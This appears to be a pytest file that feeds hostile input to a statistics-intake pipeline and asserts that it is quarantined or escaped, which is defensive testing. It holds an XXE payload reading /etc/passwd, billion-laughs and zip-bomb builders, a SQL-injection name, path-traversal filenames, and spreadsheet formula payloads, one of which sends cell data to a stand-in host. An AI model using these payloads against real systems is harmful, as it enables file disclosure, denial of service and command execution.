"""Hostile input at huizong's edges: the drop folder, the workbook parser, the
page extractor, the crawler and the analysts' CSV.

Each case ends in a clear error, a quarantine record or a verbatim value —
never a crash, an evaluated formula or a lost file. The drop-folder cases go
through the DAG's own step (``pipeline.receive_drop_folder``) into a SQLite
warehouse and account for every file afterwards.
"""

from __future__ import annotations

import copy
import io
import os
import sys
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "portal"))
from portal_http import LocalSite, Reply

UNIT, NAME, PERIOD = "621228101000", "站儿巷镇妇联", "2024Q3"


@pytest.fixture(scope="module")
def good_rows():
    from huizong import demo_data

    return next(r for r in demo_data.build_demo_returns()
                if r.unit_code == UNIT and r.period == PERIOD).rows


@pytest.fixture
def intake(tmp_path, monkeypatch):
    """(drop folder, run) where run() takes everything dropped into a fresh warehouse."""
    from huizong import pipeline
    from huizong.warehouse.db import get_engine

    data_dir = tmp_path / "var"
    monkeypatch.setenv("HUIZONG_DATA_DIR", str(data_dir))
    engine = get_engine(f"sqlite:///{tmp_path / 'warehouse.db'}")
    pipeline.prepare_warehouse(engine)
    drop = data_dir / "drop"
    drop.mkdir(parents=True)

    def run():
        summary = pipeline.receive_drop_folder(
            engine, drop, batch_id="submitted_returns__20250110T000000", partition="2025-01-10"
        )
        return summary, engine

    return drop, run


def _xlsx_bytes(rows, unit_name=NAME, unit_code=UNIT, period=PERIOD, tmp=None) -> bytes:
    from huizong.returns.samples import write_return

    path = Path(tmp) / f"w_{abs(hash((unit_name, unit_code, period)))}.xlsx"
    write_return(path, unit_code=unit_code, unit_name=unit_name, period=period, rows=rows)
    return path.read_bytes()


def _replace_in_zip(data: bytes, member_pred, new_bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            dst.writestr(info.filename, new_bytes(body) if member_pred(info.filename) else body)
    return out.getvalue()


def _sheet(name: str) -> bool:
    return name.startswith("xl/worksheets/sheet")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData><row><c t=\"inlineStr\"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row><c t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
)


def _zip_bomb(data: bytes) -> bytes:
    # ~300 MB of XML whitespace inside a sheet that compresses to well under 1 MB.
    padding = b" " * (300 * 2**20)
    return _replace_in_zip(data, _sheet, lambda body: body[:-20] + padding + body[-20:])


# name -> builder(good xlsx bytes, tmp dir) -> bytes; filename suffix
BROKEN_FILES = {
    "empty_xlsx": (".xlsx", lambda good, tmp: b""),
    "truncated_xlsx": (".xlsx", lambda good, tmp: good[: len(good) // 2]),
    "random_bytes_xlsx": (".xlsx", lambda good, tmp: os.urandom(4096)),
    "html_named_xlsx": (".xlsx", lambda good, tmp: b"<html><body>not a workbook</body></html>"),
    "garbage_xls": (".xls", lambda good, tmp: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    "truncated_xls": (".xls", lambda good, tmp: b"\xd0\xcf\x11\xe0"),
    "csv_broken_quotes": (".csv", lambda good, tmp: '代码,指标,本期\n"01,"村妇联\n"""'.encode()),
    "csv_binary_noise": (".csv", lambda good, tmp: b"\x00\xff\xfe" * 300),
    "zip_bomb_xlsx": (".xlsx", lambda good, tmp: _zip_bomb(good)),
    "billion_laughs_xlsx": (".xlsx", lambda good, tmp: _replace_in_zip(
        good, _sheet, lambda body: BILLION_LAUGHS)),
    "xxe_xlsx": (".xlsx", lambda good, tmp: _replace_in_zip(good, _sheet, lambda body: XXE)),
    "xlsx_without_sheets": (".xlsx", lambda good, tmp: _replace_in_zip(
        good, lambda n: n == "[Content_Types].xml", lambda body: b"<Types/>")),
}


@pytest.mark.parametrize("case", sorted(BROKEN_FILES))
def test_unreadable_file_is_quarantined_with_a_reason(case, intake, good_rows, tmp_path):
    drop, run = intake
    suffix, build = BROKEN_FILES[case]
    folder = drop / UNIT / "FL-01" / PERIOD
    folder.mkdir(parents=True)
    (folder / f"FL-01_{case}{suffix}").write_bytes(build(_xlsx_bytes(good_rows, tmp=tmp_path),
                                                         tmp_path))
    summary, engine = run()
    assert summary.received == 1, summary
    assert summary.staged == 0 and summary.quarantined == 1, summary
    reason = summary.quarantine_reasons[0]
    assert reason["reason"] and reason["detail"], reason
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM quarantine").scalar() == 1
    if case == "xxe_xlsx":
        assert "root:" not in reason["detail"]


@pytest.mark.parametrize(
    "unit_folder, period_folder, expected_reason",
    [
        ("12345", PERIOD, "unit"),
        ("62122810100X", PERIOD, "unit"),
        ("6212281010000", PERIOD, "unit"),
        (UNIT, "2099Q4", "period"),
        (UNIT, "2024Q5", "period"),
        (UNIT, "9999", "period"),
    ],
    ids=["short_code", "letter_in_code", "13_digits", "future_period", "quarter_5", "year_9999"],
)
def test_bad_unit_code_or_period_is_quarantined(
    unit_folder, period_folder, expected_reason, intake, good_rows, tmp_path
):
    drop, run = intake
    folder = drop / unit_folder / "FL-01" / period_folder
    folder.mkdir(parents=True)
    (folder / "FL-01.xlsx").write_bytes(_xlsx_bytes(good_rows, tmp=tmp_path))
    summary, _ = run()
    assert summary.received == 1 and summary.quarantined == 1, summary
    text = (summary.quarantine_reasons[0]["reason"] + summary.quarantine_reasons[0]["detail"])
    assert expected_reason in text.lower(), summary.quarantine_reasons


HOSTILE_NAMES = {
    "sql_injection": "站儿巷镇妇联'); DROP TABLE fact_indicator_value; --",
    "control_chars": "站儿巷镇\x07妇联\x1b[31m",
    "mixed_script": "站兒巷鎮婦聯 Ünïcødé",
    "formula_name": "=HYPERLINK(\"http://evil.example/\",\"点我\")",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_NAMES))
def test_hostile_unit_name_is_kept_verbatim_or_quarantined(case, intake, good_rows, tmp_path):
    drop, run = intake
    from huizong.returns.samples import LayoutOptions, write_return

    name = HOSTILE_NAMES[case]
    folder = drop / UNIT / "FL-01" / PERIOD
    folder.mkdir(parents=True)
    # CSV: a workbook cannot even hold control characters.
    write_return(folder / "FL-01.csv", unit_code=UNIT, unit_name=name, period=PERIOD,
                 rows=good_rows, layout=LayoutOptions(fmt="csv"))
    summary, engine = run()
    assert summary.received == 1 and summary.staged + summary.quarantined == 1, summary
    with engine.connect() as conn:
        tables = {r[0] for r in conn.exec_driver_sql(
            "SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert "fact_indicator_value" in tables
        stored = conn.execute(sa.text("SELECT unit_name FROM return_submission")).scalars().all()
    if summary.staged:
        # Kept as received, minus at most the control characters.
        expected = "".join(ch for ch in name if ch.isprintable())
        assert stored and stored[0] in (name, expected), stored


@pytest.mark.parametrize(
    "value",
    [float("nan"), float("inf"), float("-inf"), 1e308, 10**25, -5],
    ids=["nan", "inf", "minus_inf", "1e308", "10e25", "negative"],
)
def test_absurd_numbers_are_flagged_not_loaded_as_figures(value, intake, good_rows, tmp_path):
    drop, run = intake
    rows = copy.deepcopy(good_rows)
    rows["01"]["current"] = value
    folder = drop / UNIT / "FL-01" / PERIOD
    folder.mkdir(parents=True)
    path = folder / "FL-01.csv"
    from huizong.returns.samples import LayoutOptions, write_return

    write_return(path, unit_code=UNIT, unit_name=NAME, period=PERIOD, rows=rows,
                 layout=LayoutOptions(fmt="csv"))
    summary, engine = run()
    assert summary.received == 1 and summary.staged + summary.quarantined == 1, summary
    if summary.staged:
        with engine.connect() as conn:
            staged = conn.exec_driver_sql(
                "SELECT value_current, problems_json FROM stg_return_value v "
                "JOIN return_submission s USING (submission_id) WHERE v.indicator_code = '01'"
            ).fetchall()
        for current, problems in staged:
            if value != value or value in (float("inf"), float("-inf")) or abs(value) > 1e15:
                assert current is None or problems, (current, problems)


@pytest.mark.parametrize(
    "filename",
    ["..\\..\\evil.xlsx", "x\nFL-01.xlsx", "~$FL-01.xlsx", ".~lock.FL-01.xlsx#"],
    ids=["backslash_traversal", "newline", "office_temp", "lock_file"],
)
def test_suspicious_file_names_are_not_loaded_but_accounted_for(
    filename, intake, good_rows, tmp_path
):
    drop, run = intake
    folder = drop / UNIT / "FL-01" / PERIOD
    folder.mkdir(parents=True)
    (folder / filename).write_bytes(_xlsx_bytes(good_rows, tmp=tmp_path))
    summary, engine = run()
    assert summary.staged == 0, summary
    with engine.connect() as conn:
        loaded = conn.exec_driver_sql("SELECT COUNT(*) FROM return_submission").scalar()
    assert loaded == 0


def test_symlink_out_of_the_drop_folder_is_not_followed(intake, good_rows, tmp_path):
    drop, run = intake
    secret = tmp_path / "outside.xlsx"
    secret.write_bytes(_xlsx_bytes(good_rows, tmp=tmp_path))
    folder = drop / UNIT / "FL-01" / PERIOD
    folder.mkdir(parents=True)
    (folder / "FL-01.xlsx").symlink_to(secret)
    (drop / UNIT / "FL-01" / "2024Q2").symlink_to(tmp_path, target_is_directory=True)
    summary, _ = run()
    assert summary.staged == 0 and summary.received == 0, summary


FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS, ids=range(len(FORMULAS)))
def test_formula_text_is_escaped_in_analyst_csv(payload):
    import csv

    from huizong.warehouse.cli import write_csv

    out = io.StringIO()
    write_csv(["unit_name", "value"], [(payload, 1)], out)
    cells = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert cells[0][0] not in "=+-@\t\r", cells[0]
    assert payload.strip() in cells[0], "the text itself must survive"


def test_script_text_is_not_extracted_as_statistics():
    from huizong.portal.extract import extract_page

    html = (
        "<html><head><script>var s='全县共有妇女之家999个';</script>"
        "<style>.x{content:'培训妇女888人次'}</style></head>"
        "<body><div class='article-content'><p>全县共有妇女之家120个。</p>"
        "<script>document.write('培训妇女777人次')</script></div></body></html>"
    )
    extraction = extract_page(html, is_html=True, org="两当县妇联", url="http://127.0.0.1/a.html")
    values = {str(s.value) for s in extraction.statistics}
    text = extraction.normalized if isinstance(extraction.normalized, str) else str(
        extraction.normalized)
    assert not {"999", "888", "777"} & {v.split(".")[0] for v in values}, values
    assert "999" not in text and "777" not in text


def test_meta_refresh_off_the_allowlist_is_not_followed(tmp_path):
    from huizong.portal.config import parse_portals
    from huizong.portal.crawl import crawl_portal
    from huizong.portal.fetch import Fetcher, JsonFileStateStore
    from huizong.portal.rawstore import RawPageStore

    refresh = '<meta http-equiv="refresh" content="0; url=http://203.0.113.9/x.html">'
    with LocalSite() as site:
        site.route("/tzgg/index.html", Reply(body=(
            f"<html><head>{refresh}</head><body><ul class='list'>"
            "<li><a href='/a/1.html'>一</a></li></ul></body></html>")))
        site.route("/a/1.html", Reply(body=f"<html><head>{refresh}</head><body>"
                                           "<p>全县共有妇女之家120个。</p></body></html>"))
        portal = parse_portals({"portals": [{
            "id": "refresh", "base_url": site.url("/"), "list_pages": ["tzgg/"],
            "pagination": {"kind": "numbered"}, "article_selector": "ul.list li a",
            "organisation": {"name": "两当县妇联", "level": "county",
                             "division_code": "621228000000"},
            "max_pages": 2, "request_interval_seconds": 0,
            "allowed_hosts": [{"host": "127.0.0.1", "allow_private": True}],
        }]}, source="test")[0]
        result = crawl_portal(
            portal, partition="2025-01-10", raw_store=RawPageStore(tmp_path / "raw"),
            state_store=JsonFileStateStore(tmp_path / "s.json"),
            fetcher=Fetcher.for_portal(portal, max_retries=0, read_timeout=2),
        )
    urls = [p.final_url for p in result.pages] + [e.url for e in result.errors]
    assert all("203.0.113.9" not in u for u in urls), urls
    assert [p.url.rsplit("/", 1)[-1] for p in result.pages] == ["1.html"]
